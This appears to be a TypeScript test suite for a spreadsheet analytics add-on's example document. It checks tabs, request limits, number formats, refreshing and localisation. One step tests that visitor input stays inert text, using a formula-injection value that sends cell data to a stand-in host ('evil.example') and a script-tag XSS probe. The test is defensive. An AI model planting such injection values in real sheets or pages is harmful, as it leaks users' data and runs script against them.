// The document that `npm start` opens, in each of its languages.
import { type ExampleDocument, openExample } from "../../workbench/exampleDocument";
import type { LocaleCode } from "../../workbench/sheet/engine/locales";
import type { Workbench } from "../../workbench/workbench";
import { builtAddOn } from "../support/builtAddOn";
import { story } from "../support/story";

/** A minute of the Growth plan has 30 requests; a few are left for what a newcomer types first. */
const mostRequests = 27;
const minuteMs = 60_000;

const tabsOf = ({ book }: Workbench) => book.port.sheets().filter(({ isHidden }) => !isHidden);

/** All cells of a tab that hold anything. */
function cellsOf({ book }: Workbench, sheetId: string) {
  const zone = book.port.dataZone(sheetId);
  return zone ? book.port.read(sheetId, zone).flat() : [];
}

/** What no reader should meet on any tab, the hidden one included. */
function troublesOf(workbench: Workbench) {
  return workbench.book.port
    .sheets()
    .flatMap(({ id, name }) => cellsOf(workbench, id).map((cell) => ({ name, ...cell })))
    .filter(({ error, display }) => error !== undefined || display === "Loading..." || /^#[A-Z]/.test(display))
    .map(({ name, display, error }) => ({ name, display, error }));
}

const logOf = async ({ api }: Workbench) => (await api!.control.state()).log;

function formulasOf({ book }: Workbench): string[] {
  const { getters } = book.model;
  return tabsOf({ book } as Workbench)
    .flatMap(({ id }) => getters.getCells(id))
    .flatMap((cell) => (cell.isFormula ? [cell.compiledFormula.toFormulaString(getters)] : []));
}

story("The example document", (step) => {
  let example: ExampleDocument;
  let workbench: Workbench;
  beforeAll(async () => {
    example = await openExample("en_US", { addOn: builtAddOn() });
    workbench = example.workbench;
  });
  afterAll(() => workbench.close());

  /** Lets the plan's minute go by, and counts from there. */
  async function nextMinute(): Promise<void> {
    await workbench.time?.moveBy(minuteMs);
    await workbench.api!.control.change({ clearLog: true });
  }

  step(
    "can be looked at before anything is asked: a dashboard, and a tab for each part of what formulas ask",
    async () => {
      expect(tabsOf(workbench).map(({ name }) => name)).toEqual([
        "Site overview",
        "Data center",
        "Heatmap",
        "Events",
        "Conversions",
        "Experiences",
        "Lists",
      ]);
      expect(workbench.display("Site overview!B5")).toEqual([["Visits"]]);
      expect(workbench.display("Data center!A10")).toEqual([["Sources and the period before them"]]);
      expect(workbench.book.port.activeRange().sheetId).toBe(tabsOf(workbench)[0]?.id);
      expect(await logOf(workbench)).toEqual([]);
    },
  );

  step("is filled with few requests, none of which fails", async () => {
    await example.fill();
    const log = await logOf(workbench);
    expect(log.filter(({ status }) => status !== 200)).toEqual([]);
    expect(log.length).toBeLessThanOrEqual(mostRequests);
  });

  step("shows no error, and nothing that is still awaited", () => {
    expect(troublesOf(workbench)).toEqual([]);
  });

  step("shows on its dashboard what the formulas answer for the same period", () => {
    const [[visits, , visitors]] = workbench.display("Site overview!B6:D6") as [string[]];
    expect(visits).toMatch(/^\d\d,\d{3}$/);
    expect(workbench.display("Data center!A7:B7")).toEqual([[visits, visitors]]);
    expect(workbench.display("Data center!D20")).toEqual([[visits]]);
    expect(workbench.display("Site overview!B3")[0]?.[0]).toContain("Simulated site");
  });

  step("answers what somebody types first at once", async () => {
    const before = (await logOf(workbench)).length;
    workbench.setFormula("Lists!Z1", '=PTENGINE_DC("country"; "visits"; "2026-04-01"; "2026-04-30")');
    await workbench.settled();
    expect(workbench.display("Lists!Z1:AA1")).toEqual([["country", "visits"]]);
    workbench.setFormula("Lists!Z1", "");
    expect((await logOf(workbench)).length).toBe(before + 1);
  });

  step("lists its dashboard in the sidebar, up to date, for every morning", async () => {
    const args = ["listReports", {}];
    const answer = await workbench.appsScript.execute({ entry: "sidebar", functionName: "sidebarCall", args });
    expect(answer).toMatchObject({
      value: { value: { dashboards: [{ tab: "Site overview", result: "ok", schedule: { every: "day", hour: 7 } }] } },
    });
    expect(workbench.appsScript.state.triggers.list()).toHaveLength(1);
  });

  step("uses every function that asks for data", () => {
    const used = new Set(formulasOf(workbench).flatMap((text) => text.match(/PTENGINE_\w+/g) ?? []));
    const published = workbench.book.snapshot().functions.map(({ name }) => name);
    expect(published.filter((name) => !used.has(name))).toEqual(["PTENGINE_FILTER"]);
  });

  step("has formulas that all follow a refresh", () => {
    const asking = formulasOf(workbench).filter((text) => text.includes("PTENGINE_"));
    expect(asking.length).toBeGreaterThan(20);
    expect(asking.filter((text) => !/PTENGINE_REFRESH\)/.test(text))).toEqual([]);
  });

  step("shows rates, durations, days and money as such", () => {
    const [, share] = workbench.display("Conversions!B8:C8")[0]!;
    expect(share).toMatch(/^\d+\.\d%$/);
    expect(workbench.display("Conversions!D9")).toEqual([[expect.stringMatching(/^¥[\d,]+$/)]]);
    expect(workbench.display("Data center!I8")).toEqual([[expect.stringMatching(/^0:00:\d\d$/)]]);
    expect(workbench.display("Events!F8")).toEqual([[expect.stringMatching(/^\d{4}-\d\d-\d\d$/)]]);
  });

  step("keeps as text what visitors typed", () => {
    const typed = workbench.values("Experiences!I8:I400").flat().map(String);
    const dangerous = typed.filter((text) => text.startsWith("="));
    expect(dangerous).toContain('=IMPORTXML("http://evil.example/?"&A1,"//a")');
    expect(typed).toContain("<script>alert('x')</script>");
    expect(workbench.values("Experiences!J4")).toEqual([[dangerous.length]]);
    expect(formulasOf(workbench).filter((text) => text.includes("IMPORTXML"))).toEqual([]);
  });

  step("asks anew when it is refreshed", async () => {
    await nextMinute();
    expect(await workbench.runMenu("menuRefreshFormulas")).toMatchObject({ ok: true });
    expect(workbench.values("Lists!V2")).toEqual([[expect.stringMatching(/^[0-9a-z]{8}$/)]]);
    await workbench.settled();
    const log = await logOf(workbench);
    // What all its formulas ask: no answer of before was taken.
    expect(log.length).toBeGreaterThan(16);
    expect(troublesOf(workbench)).toEqual([]);
  });

  step("follows the cells that name the period, the goal and the experience", async () => {
    await nextMinute();
    workbench.setFormula("Data center!B4", "先週");
    workbench.setFormula("Conversions!D4", "資料ダウンロード");
    workbench.setFormula("Experiences!B4", "Onboarding tour");
    await workbench.settled();
    const visits = workbench.display("Data center!A7")[0]?.[0];
    expect(visits).toMatch(/^\d,\d{3}$/);
    expect(workbench.display("Data center!D20")).toEqual([[visits]]);
    expect(workbench.display("Conversions!F8:F10")).toEqual([["1"], ["2"], [""]]);
    expect(workbench.display("Experiences!A12:A14")).toEqual([["Control"], ["Pattern 1"], ["パターン 2"]]);
    expect(workbench.display("Experiences!I7")).toEqual([["お名前"]]);
  });
});

describe("The example document of another country", () => {
  const words: Readonly<Partial<Record<LocaleCode, readonly string[]>>> = {
    ja_JP: ["サイト概要", "データセンター"],
    zh_CN: ["网站概览", "数据中心"],
  };

  test.each(Object.entries(words) as [LocaleCode, string[]][])(
    "speaks its language throughout and shows no error: %s",
    async (locale, [dashboard = "", dataCenter = ""]) => {
      const { workbench, fill } = await openExample(locale, { addOn: builtAddOn() });
      await fill();
      const tabs = tabsOf(workbench);
      const inItsWords = expect.stringMatching(/[\p{Script=Han}\p{Script=Katakana}]/u);
      expect(tabs.slice(0, 2).map(({ name }) => name)).toEqual([dashboard, dataCenter]);
      expect(workbench.display(`${dashboard}!B2`)).toEqual([[dashboard]]);
      expect(workbench.display(`${dashboard}!B10`)).toEqual([[inItsWords]]);
      expect(workbench.display(`${dataCenter}!A11:C11`)).toEqual([[inItsWords, inItsWords, inItsWords]]);
      expect(workbench.display(`${tabs.at(-1)?.name}!R5:S5`)).toEqual([[inItsWords, inItsWords]]);
      expect(troublesOf(workbench)).toEqual([]);
      expect((await logOf(workbench)).length).toBeLessThanOrEqual(mostRequests);
      await workbench.close();
    },
  );
});
